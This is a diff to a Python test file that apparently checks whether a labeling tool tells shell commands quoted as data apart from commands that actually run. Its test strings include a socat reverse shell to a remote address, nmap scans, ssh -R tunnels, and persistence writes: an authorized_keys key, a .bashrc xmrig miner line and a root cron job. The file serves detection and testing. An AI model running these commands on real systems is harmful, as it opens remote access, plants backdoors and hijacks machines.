@@ -54,6 +54,8 @@ SHELL_CASES = [
      "git commit -m x && nmap -sS 10.0.0.1"),
     ("git commit -am 'doc: ssh -R forwarding'", "ssh -R",
      "git commit -am x; ssh -R 1:a:2 h"),
+    ("git commit -q -m 'docs: why `socat TCP:198.51.100.12:4444 EXEC:/bin/bash` is blocked'", "socat",
+     "git commit -q -m \"docs: `socat TCP:198.51.100.12:4444 EXEC:/bin/bash`\""),
     ("git commit -m \"$(cat <<'EOF'\nDocument ssh -R 9000:localhost:22 usage\nEOF\n)\"", "ssh -R 9000",
      "git commit -m \"$(ssh -R 9000:localhost:22 h)\""),
     ("git commit -F - <<EOF\nnmap wrapper\nEOF\n", "nmap wrapper",
@@ -97,6 +99,10 @@ def test_shell_data_form_is_masked_and_its_running_twin_is_not(text, needle, twi
     ("echo 'nmap -sS 10.0.0.1' > >(sh)", "nmap"),  # a process substitution runs the output
     ("echo 'nmap -sS 10.0.0.1' | tee >(sh)", "nmap"),
     ("while read c; do $c; done <<EOF\nnmap -sS 10.0.0.1\nEOF\n", "nmap"),
+    # writing a persistence file is itself the action (LABELING.md section 1)
+    ("echo 'ssh-ed25519 AAAAC3Nz ops@laptop' >> ~/.ssh/authorized_keys", "ssh-ed25519"),
+    ("cat >> ~/.bashrc <<'EOF'\nnohup ./xmrig &\nEOF\n", "xmrig"),
+    ("echo '* * * * * root /tmp/.x/run' | sudo tee /etc/cron.d/sync", "/tmp/.x/run"),
 ])
 def test_text_that_executes_is_not_data(text, needle):
     assert not masked(text, needle), data(text)
